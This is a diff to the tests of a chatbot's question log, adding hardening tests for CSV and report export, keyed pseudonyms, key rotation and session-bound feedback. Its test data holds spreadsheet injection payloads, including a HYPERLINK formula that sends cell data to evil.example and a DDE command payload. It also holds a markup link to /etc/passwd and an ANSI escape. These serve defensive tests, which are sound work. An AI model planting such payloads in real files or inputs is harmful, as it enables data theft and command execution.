@@ -154,7 +154,7 @@ def test_logging_errors_never_fail_the_answer(tmp_path, caplog):
     log = QuestionLog(tmp_path / "q.sqlite")
     log.db.conn.close()   # any database failure
     assert log.record("web", 1, "问题", _answer("answered"), 1.0) is None
-    assert log.feedback(1, 1) is False
+    assert log.feedback(1, 1) is None              # None: could not be written (False: no such question)
     assert "could not record" in caplog.text
 
 
@@ -175,6 +175,174 @@ def test_new_migration_applies_to_an_existing_log(tmp_path):
     assert m001_questions   # the first migration is kept as it was
 
 
+# ---------------------------------------------------------------------------------------------
+# Hardening (issue 11)
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def _injected_log(path):
+    log = QuestionLog(path, salt="test-salt")
+    for i, q in enumerate(FORMULAS):
+        qid = log.record("web", f"x{i}", q, _answer("not_found"), 1.0)
+        log.feedback(qid, -1, "=1+2")
+    log.record("web", "y", "正常的问题 = 没有公式", _answer("not_found"), 1.0)
+    return log
+
+
+def _formula_cells(rows):
+    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def test_csv_export_neutralises_formulas(tmp_path, monkeypatch):
+    from scripts.logs_admin import group
+    data = tmp_path / "data"
+    _injected_log(data / "questions.sqlite").close()
+    monkeypatch.setenv("PZ_DATA_DIR", str(data))
+    monkeypatch.setenv("PZ_LOG_SALT", "test-salt")
+    out = tmp_path / "x.csv"
+    res = CliRunner().invoke(group, ["export", "--out", str(out)], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    with open(out, encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    assert _formula_cells(rows) == []
+    questions = [r[rows[0].index("question")] for r in rows[1:]]
+    assert questions[:len(FORMULAS)] == ["'" + q for q in FORMULAS]   # kept, readable, but inert
+    assert questions[-1] == "正常的问题 = 没有公式"                      # other text untouched
+    assert {r[rows[0].index("feedback_reason")] for r in rows[1:-1]} == {"'=1+2"}
+    assert {r[rows[0].index("feedback")] for r in rows[1:-1]} == {"-1"}  # numbers stay numbers
+    res = CliRunner().invoke(group, ["export", "--format", "jsonl"])
+    assert [json.loads(x)["question"] for x in res.output.splitlines()][:len(FORMULAS)] == FORMULAS
+
+
+def test_report_csvs_neutralise_formulas_and_tables_show_markup_literally(tmp_path, monkeypatch):
+    from scripts.logs_admin import group
+    data = tmp_path / "data"
+    log = _injected_log(data / "questions.sqlite")
+    log.record("web", "z", "[/bold] [link=file:///etc/passwd]点[/link] \x1b[2J", _answer("not_found"), 1.0)
+    log.close()
+    monkeypatch.setenv("PZ_DATA_DIR", str(data))
+    monkeypatch.setenv("PZ_LOG_SALT", "test-salt")
+    out = tmp_path / "report"
+    res = CliRunner().invoke(group, ["report", "--since", "7d", "--out", str(out)], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert "[/bold]" in res.output and "\x1b" not in res.output and "\\x1b" in res.output
+    for name in ("question_groups.csv", "not_found.csv", "negative_feedback.csv"):
+        with open(out / name, encoding="utf-8-sig", newline="") as f:
+            rows = list(csv.reader(f))
+        assert len(rows) > 1 and _formula_cells(rows) == [], name
+    with open(out / "not_found.csv", encoding="utf-8-sig", newline="") as f:
+        assert ["1", "'" + FORMULAS[0]] in list(csv.reader(f))
+
+
+def test_pseudonyms_are_keyed_and_the_key_is_kept_outside_the_database(tmp_path):
+    path = tmp_path / "q.sqlite"
+    log = QuestionLog(path)                                   # no key given: a key file beside the data
+    key_file = tmp_path / "log.key"
+    assert key_file.exists() and key_file.stat().st_mode & 0o777 == 0o600
+    key = key_file.read_text().strip()
+    assert len(key) >= 64 and log.key == key
+    log.record("telegram", 7391846623, "问题", _answer("answered"), 1.0)
+    assert log.rows()[0]["user_hash"] == pseudonym(7391846623, key)
+    log.close()
+    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("q.sqlite"))
+    assert key.encode() not in blobs
+    # brute force over the id space with what is in the database alone does not find the user
+    import hashlib
+    h = QuestionLog(path).rows()[0]["user_hash"]
+    assert all(hashlib.sha256(f"\x00{u}".encode()).hexdigest()[:20] != h for u in range(7391846600, 7391846650))
+    assert QuestionLog(path).key == key                        # read again, not replaced
+    assert QuestionLog(tmp_path / "other.sqlite", "env-key").key == "env-key"
+
+
+def test_old_databases_forget_their_stored_salt(tmp_path):
+    import sqlite_utils
+
+    from bot.qlog import migrations
+    path = tmp_path / "old.sqlite"
+    db = sqlite_utils.Database(str(path))
+    migrations.apply(db, stop_before="m003_question_session")
+    db.execute("CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)")
+    db.execute("INSERT INTO meta VALUES ('salt', 'cafebabe0123456789abcdefdeadbeef')")
+    db["questions"].insert({"ts": NOW, "channel": "web", "user_hash": "0123456789abcdef0123",
+                            "question": "旧问题", "status": "answered"})
+    db.conn.commit()
+    db.close()
+    log = QuestionLog(path)
+    assert not migrations.pending(log.db)
+    assert not log.db["meta"].exists()
+    assert "session_hash" in log.db["questions"].columns_dict
+    assert [(r["question"], r["user_hash"]) for r in log.rows()] == [("旧问题", "0123456789abcdef0123")]
+    log.close()
+    blobs = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.name.startswith("old.sqlite"))
+    assert b"cafebabe0123456789abcdefdeadbeef" not in blobs    # the salt is gone from the file
+
+
+def test_feedback_only_from_the_session_that_asked(tmp_path):
+    log = QuestionLog(tmp_path / "q.sqlite", "k")
+    qid = log.record("web", "s1", "问题", _answer("answered"), 1.0, session="session-one")
+    assert log.feedback(qid, -1, "不对", session="session-two") is False
+    assert log.feedback(qid + 1, -1, session="session-one") is False
+    assert log.feedback(2**70, -1, session="session-one") is False
+    assert log.rows()[0]["feedback"] is None
+    assert log.feedback(qid, -1, "不对", session="session-one") is True
+    assert (log.rows()[0]["feedback"], log.rows()[0]["feedback_reason"]) == (-1, "不对")
+
+
+def test_rotate_key_and_purge_sessions_commands(tmp_path, monkeypatch):
+    from bot.config import load_config
+    from bot.runtime import Runtime
+    from scripts.logs_admin import group
+    from tests.fakes.wechat_fakes import FakeAssistant
+    data = tmp_path / "data"
+    monkeypatch.setenv("PZ_DATA_DIR", str(data))
+    monkeypatch.delenv("PZ_LOG_SALT", raising=False)
+    monkeypatch.delenv("PZ_LOG_KEY", raising=False)
+    cfg = load_config()
+    rt = Runtime.start(cfg, assistant=FakeAssistant())
+    rt.ask_sync("web", "u1", "晋城高平，营收首次过了5亿，奖励多少")
+    old_key, old_hash = rt.qlog.key, rt.qlog.rows()[0]["user_hash"]
+    age_session(rt, "stale", days=3)
+    rt.close()
+    res = CliRunner().invoke(group, ["purge-sessions"], catch_exceptions=False)
+    assert res.exit_code == 0 and "Deleted 1 session" in res.output and "1 left" in res.output
+    res = CliRunner().invoke(group, ["rotate-key", "--yes"], catch_exceptions=False)
+    assert res.exit_code == 0, res.output
+    assert cfg.log_key_path.stat().st_mode & 0o777 == 0o600
+    rt = Runtime.start(cfg, assistant=FakeAssistant())
+    try:
+        assert rt.qlog.key != old_key and rt.sessions.count() == 0
+        assert rt.profile("web", "u1") == []                          # the conversation was forgotten
+        turn = rt.ask_sync("web", "u1", "奖励多少")
+        assert turn.answer.status == "clarify"
+        assert rt.qlog.rows()[-1]["user_hash"] != old_hash            # a new pseudonym from now on
+        assert rt.feedback("web", "u1", rt.qlog.rows()[0]["id"], 1) is False   # votes on old answers: no
+    finally:
+        rt.close()
+    monkeypatch.setenv("PZ_LOG_KEY", "from-the-environment")
+    res = CliRunner().invoke(group, ["rotate-key", "--yes"])
+    assert res.exit_code != 0 and "PZ_LOG_KEY" in res.output
+
+
+def age_session(runtime, sid: str, days: float, facts: dict | None = None) -> None:
+    """A session last used `days` ago (saved, then its time set back in the file)."""
+    import sqlite3
+
+    from bot.core.types import Session
+    runtime.sessions.save(Session(id=sid, facts=facts or {"region": "晋城市泽州县", "revenue": 300_000_000}))
+    with sqlite3.connect(runtime.config.sessions_db) as db:
+        db.execute("UPDATE sessions SET updated_at = ? WHERE id = ?", [time.time() - days * DAY, sid])
+
+
 def test_since_parsing():
     from scripts.logs_admin import parse_since
     assert parse_since("7d") == 7 * DAY and parse_since("12h") == 12 * 3600 and parse_since("2w") == 14 * DAY
@@ -188,7 +356,7 @@ def test_raw_user_ids_never_reach_any_database_through_the_runtime(runtime):
     """Every channel goes through Runtime.ask: neither the log nor the sessions keep the raw id."""
     raw = 7391846622
     turn = runtime.ask_sync("telegram", raw, "晋城的专业镇企业营收首次达到5亿元，能拿多少奖励？")
-    runtime.feedback(turn.question_id, -1, "金额不对")
+    assert runtime.feedback("telegram", raw, turn.question_id, -1, "金额不对") is True
     runtime.ask_sync("wechat", "oXq9-openid-rawtest", "找哪个部门？")
     data_dir = runtime.config.data_dir
     blobs = b"".join(p.read_bytes() for p in data_dir.rglob("*.sqlite*"))
